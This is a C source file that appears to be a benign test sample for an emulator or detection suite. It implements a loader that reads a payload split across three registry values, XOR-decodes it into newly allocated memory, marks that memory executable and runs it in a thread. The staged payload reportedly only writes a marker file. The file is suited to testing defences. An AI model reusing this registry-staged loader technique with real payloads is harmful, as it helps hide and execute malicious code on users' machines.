/*
 * loader.c - generality suite: a payload split across three REG_BINARY values, read one after
 * the other into one buffer, then XORed into new memory and run. Benign, emulator-only (see
 * ../../lineage-common/common.h).
 *
 * RegOpenKeyExA HKCU\Software\ChainreplayDemo, RegQueryValueExA of Part1, Part2 and Part3, each
 * at the end of the last in a buffer on the stack; the whole is XORed with the 5-byte key
 * 71 c3 0e 9a 25 into a new PAGE_READWRITE allocation, made PAGE_EXECUTE_READ with
 * VirtualProtect and run in a thread. The stage (../../lineage-common/payload.c) writes
 * C:\Users\Public\lineage_split.txt.
 * Exit codes: 0 ok, 1 no marker, 2 registry, 4 memory, 5 thread.
 */
#include "common.h"

void Entry(void)
{
    static const char *names[3] = {"Part1", "Part2", "Part3"};
    static const unsigned char key[5] = {0x71, 0xc3, 0x0e, 0x9a, 0x25};
    static struct sc_ctx ctx;
    unsigned char raw[4096];
    DWORD total = 0, n, i, old;
    HKEY hkey;
    unsigned char *mem;
    HANDLE thread;

    if (!marker_present())
        ExitProcess(1);
    if (RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\ChainreplayDemo", 0, KEY_READ, &hkey) != ERROR_SUCCESS)
        ExitProcess(2);
    for (i = 0; i < 3; i++) {
        n = sizeof(raw) - total;
        if (RegQueryValueExA(hkey, names[i], 0, 0, raw + total, &n) != ERROR_SUCCESS || n == 0)
            ExitProcess(2);
        total += n;
    }
    RegCloseKey(hkey);
    mem = (unsigned char *)VirtualAlloc(0, total, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(4);
    for (i = 0; i < total; i++)
        mem[i] = raw[i] ^ key[i % 5];
    if (!VirtualProtect(mem, total, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_split.txt", "assembled from three registry values\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)mem, &ctx, 0, 0);
    if (!thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
